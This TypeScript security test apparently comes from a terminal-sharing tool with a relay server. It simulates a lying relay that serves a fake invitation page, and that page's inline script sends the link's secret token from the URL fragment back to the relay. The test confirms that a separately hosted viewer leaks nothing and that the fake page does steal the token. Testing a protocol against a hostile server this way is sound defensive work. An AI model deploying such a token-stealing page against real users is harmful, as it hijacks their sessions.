// A relay that hands out the page may hand out a thief's. Whoever has the viewer from elsewhere, checked by its hashes,
// opens the same links by the same relay and gives it nothing.

import { Copy } from "../harness/copy";
import type { Relay } from "../harness/stage";
import { expect } from "../harness/test";
import { attack } from "../harness/trial";
import { Viewer } from "../harness/viewer";

/** What a lying relay serves in place of the viewer. */
const THIEF = '<h1>You are invited</h1><script>fetch("/take?" + location.hash.slice(1))</script>';
const ALPHABET = "qpzry9x8gf2tvdw0s3jn54khce6mua7l";

/** Returns what a link's token holds: the session's name, and the secret. PROTOCOL.md 3. */
function contents(link: string): { text: string; session: Buffer; secret: Buffer } {
  const text = /#(ch[rio]1[a-z0-9]{59})/.exec(link)?.[1];
  if (text === undefined) throw new Error("no token in the link");
  const groups = [...text.slice(4, -6)].map((letter) => ALPHABET.indexOf(letter).toString(2).padStart(5, "0"));
  const bits = groups.join("").slice(0, 33 * 8);
  const payload = Buffer.from(bits.match(/.{8}/g)?.map((byte) => Number.parseInt(byte, 2)) ?? []);
  return { text, session: payload.subarray(1, 17), secret: payload.subarray(17, 33) };
}

attack("a relay that lies about the viewer learns no link from a copy elsewhere", async ({ stage, browser, trial }) => {
  let relay: Relay | undefined;
  const copy = await Copy.open(() => relay as Relay);
  relay = await stage.relay(["--origin", copy.origin]);
  const { origin } = relay;
  const { links } = await stage.share(relay);
  const { text, session, secret } = contents(links.interact);

  const context = await browser.newContext({ ignoreHTTPSErrors: true });
  const taken: string[] = [];
  await context.route((url) => url.origin === origin, async (route) => {
    taken.push(route.request().url());
    await route.fulfill({ contentType: "text/html", body: THIEF });
  });
  const page = await context.newPage();
  await page.goto(links.interact.replace(origin, copy.origin));
  const viewer = new Viewer(page);
  await viewer.join("Kay");
  await viewer.isLive();
  await viewer.type("echo typed by hand\n");
  await viewer.showsLine("typed by hand");
  const told = copy.told();
  trial.works("the relay is told which session it is", told.includes(session));
  trial.fails("the relay is told the token", told.includes(text), false);
  trial.fails("the relay is told the secret", told.includes(secret), false);
  trial.fails("the relay is asked for a page", taken, []);

  await page.goto(links.interact);
  await expect.poll(() => taken.some((url) => url.includes(`/take?${text}`))).toBe(true);
  trial.works("the thief's page takes the token of who opens that", true);
  await context.close();
  await copy.close();
});
